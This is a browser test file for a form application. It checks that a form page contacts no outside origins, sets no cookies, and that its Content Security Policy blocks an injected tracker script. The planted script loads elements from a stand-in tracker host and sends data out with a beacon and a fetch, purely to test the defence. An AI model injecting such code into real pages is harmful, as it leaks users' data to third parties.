import assert from 'node:assert/strict';
import { test } from 'node:test';
import { startApp } from '../support/app.ts';
import { foreignOrigins, openBrowser, visit } from '../support/browser.ts';
import { addForm } from '../support/forms.ts';

const FIELDS = [{ field_name: 'first', label: 'What hurts?', type: 'text' }];

/** Plants what trackers are made of, and waits until each kind of it was stopped. */
const PLANT = `(async () => {
  const directives = new Set();
  document.addEventListener('securitypolicyviolation', (event) => directives.add(event.effectiveDirective));
  const planted = [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['link', 'href']];
  for (const [name, attribute] of planted) {
    const element = document.createElement(name);
    if (name === 'link') element.setAttribute('rel', 'stylesheet');
    element.setAttribute(attribute, 'https://tracker.example/' + name);
    document.body.append(element);
  }
  navigator.sendBeacon('https://tracker.example/beacon', 'everything');
  await fetch('https://tracker.example/fetch').catch(() => undefined);
  while (directives.size < 5) await new Promise((resolve) => setTimeout(resolve, 20));
  return [...directives].toSorted();
})()`;

test('the page of a form asks nobody else for anything, and its policy stops a tracker that somebody planted', async (t) => {
  const app = await startApp(t);
  const { id } = await app.createCustomer();
  const formId = await addForm(app, id, { form_json: { fields: FIELDS } });
  const browser = await openBrowser(t);
  const seen = await visit(browser, `${app.url}/f/${formId}`);
  await seen.page.locator('[name="q.first"]').fill('everything');
  assert.deepEqual(foreignOrigins(seen, app.url), []);
  assert.deepEqual(await seen.page.context().cookies(), []);

  const stopped = await seen.page.evaluate(PLANT);
  assert.deepEqual(stopped, ['connect-src', 'frame-src', 'img-src', 'script-src-elem', 'style-src-elem']);
});
